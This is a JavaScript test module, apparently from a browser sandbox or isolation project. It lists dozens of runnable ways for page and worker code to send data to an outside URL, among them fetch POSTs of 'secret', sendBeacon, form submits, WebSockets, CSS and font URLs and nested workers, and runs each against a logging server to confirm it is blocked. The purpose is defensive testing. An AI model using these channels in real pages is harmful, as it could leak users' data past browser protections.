// Every way that we know by which code in a tab could send something out, as a function that runs there. `url` is the
// address that must not be reached; each attack puts its name into it, so that the server can tell them apart.
// Attacks report nothing: only the server's log counts.

// Attacks from the page.
export const pageAttacks = {
  fetch: (url) => fetch(url, { method: "POST", body: "secret" }),
  "fetch-no-cors": (url) => fetch(url, { mode: "no-cors" }),
  "fetch-keepalive": (url) => fetch(url, { mode: "no-cors", keepalive: true }),
  xhr: (url) =>
    new Promise((resolve) => {
      const request = new XMLHttpRequest();
      request.open("GET", url);
      request.onloadend = resolve;
      request.send();
    }),
  websocket: (url) =>
    new Promise((resolve) => {
      const socket = new WebSocket(url.replace("http", "ws"));
      socket.onerror = socket.onclose = resolve;
    }),
  "event-source": (url) =>
    new Promise((resolve) => {
      const source = new EventSource(url);
      source.onerror = () => resolve(source.close());
    }),
  "send-beacon": (url) => navigator.sendBeacon(url, "secret"),
  image: (url) =>
    new Promise((resolve) => {
      const image = new Image();
      image.onload = image.onerror = resolve;
      image.src = url;
    }),
  script: (url) => append("script", { src: `${url}.js` }),
  "module-script": (url) => append("script", { src: `${url}.js`, type: "module" }),
  stylesheet: (url) => append("link", { rel: "stylesheet", href: `${url}.css` }),
  prefetch: (url) => append("link", { rel: "prefetch", href: url }),
  preload: (url) => append("link", { rel: "preload", as: "image", href: url }),
  "preload-fetch": (url) => append("link", { rel: "preload", as: "fetch", crossOrigin: "anonymous", href: url }),
  "module-preload": (url) => append("link", { rel: "modulepreload", href: `${url}.js` }),
  frame: (url) => append("iframe", { src: url }),
  object: (url) => append("object", { data: url, type: "text/html" }),
  embed: (url) => append("embed", { src: url, type: "text/html" }),
  audio: (url) => append("audio", { src: url, preload: "auto" }),
  video: (url) => append("video", { src: url, preload: "auto" }),
  poster: (url) => append("video", { poster: url }),
  track: (url) => {
    const video = Object.assign(document.createElement("video"), { crossOrigin: "anonymous" });
    const track = Object.assign(document.createElement("track"), { src: url, default: true });
    video.append(track);
    document.body.append(video);
    track.track.mode = "showing";
    return settled(track);
  },
  "svg-image": (url) => {
    const svg = document.createElementNS("http://www.w3.org/2000/svg", "svg");
    const image = document.createElementNS("http://www.w3.org/2000/svg", "image");
    image.setAttribute("href", url);
    svg.append(image);
    document.body.append(svg);
    return settled(image);
  },
  "css-url": (url) => {
    const element = document.createElement("div");
    element.style.backgroundImage = `url(${url})`;
    element.textContent = "x";
    document.body.append(element);
  },
  "css-sheet-url": (url) => {
    const sheet = new CSSStyleSheet();
    sheet.replaceSync(`body::after { content: "x"; background: url(${url}) }`);
    document.adoptedStyleSheets.push(sheet);
  },
  font: (url) => new FontFace("stolen", `url(${url})`).load(),
  form: (url) => {
    const frame = Object.assign(document.createElement("iframe"), { name: "hole" });
    const form = Object.assign(document.createElement("form"), { action: url, method: "post", target: "hole" });
    form.append(Object.assign(document.createElement("input"), { name: "data", value: "secret" }));
    document.body.append(frame, form);
    form.submit();
  },
  ping: (url) => {
    const link = Object.assign(document.createElement("a"), { href: "#", ping: url });
    document.body.append(link);
    link.click();
  },
  "dynamic-import": (url) => import(`${url}.js`),
  worker: (url) => settled(new Worker(`${url}.js`)),
  "service-worker": (url) => navigator.serviceWorker.register(`${url}.js`),
  "blob-worker-import-scripts": (url) => {
    const script = new Blob([`try { importScripts("${url}.js") } catch {} postMessage(0)`]);
    return settled(new Worker(URL.createObjectURL(script)));
  },
};

// Attacks from inside a worker that handles data.
export const workerAttacks = {
  fetch: (url) => fetch(url, { method: "POST", body: "secret" }),
  "fetch-no-cors": (url) => fetch(url, { mode: "no-cors" }),
  "fetch-keepalive": (url) => fetch(url, { mode: "no-cors", keepalive: true }),
  xhr: pageAttacks.xhr,
  websocket: pageAttacks.websocket,
  "event-source": pageAttacks["event-source"],
  "import-scripts": (url) => importScripts(`${url}.js`),
  "dynamic-import": (url) => import(`${url}.js`),
  font: (url) => new FontFace("stolen", `url(${url})`).load(),
  cache: async (url) => (await caches.open("stolen")).add(url),
  "nested-worker": (url) => {
    const script = new Blob([`try { importScripts("${url}.js") } catch {} postMessage(0)`]);
    return settled(new Worker(URL.createObjectURL(script)));
  },
  "nested-fetch": (url) => {
    const script = new Blob([`fetch("${url}", { mode: "no-cors" }).catch(() => {}).finally(() => postMessage(0))`]);
    return settled(new Worker(URL.createObjectURL(script)));
  },
};

// Runs in the browser beside each attack.
const helpers = `
const settled = (target) => new Promise((resolve) => {
  for (const event of ["load", "error", "message", "loadeddata", "stalled", "suspend"]) target.addEventListener(event, resolve);
});
const append = (name, attributes) => {
  const element = Object.assign(document.createElement(name), attributes);
  const done = settled(element);
  document.body.append(element);
  return done;
};`;

// Runs every attack in `where` (a page or one of its workers) against an origin and waits until each has either ended
// or had a second: some are blocked without any event, and there is nothing to wait for then. Whether something
// arrived is asked of the server later, behind a barrier.
export function attack(where, attacks, base) {
  return where.evaluate(attempts(attacks, base));
}

// The same as an expression, whose value is a promise.
export function attempts(attacks, base) {
  const started = Object.entries(attacks).map(
    ([name, run]) => `attempt(${run.toString()}, ${JSON.stringify(`${base}/${name}`)})`,
  );
  return `(async () => {
    ${helpers}
    const patience = () => new Promise((resolve) => setTimeout(resolve, 1000));
    const attempt = async (run, url) => {
      try { await Promise.race([run(url), patience()]); } catch {}
    };
    await Promise.all([${started.join(",\n")}]);
  })()`;
}
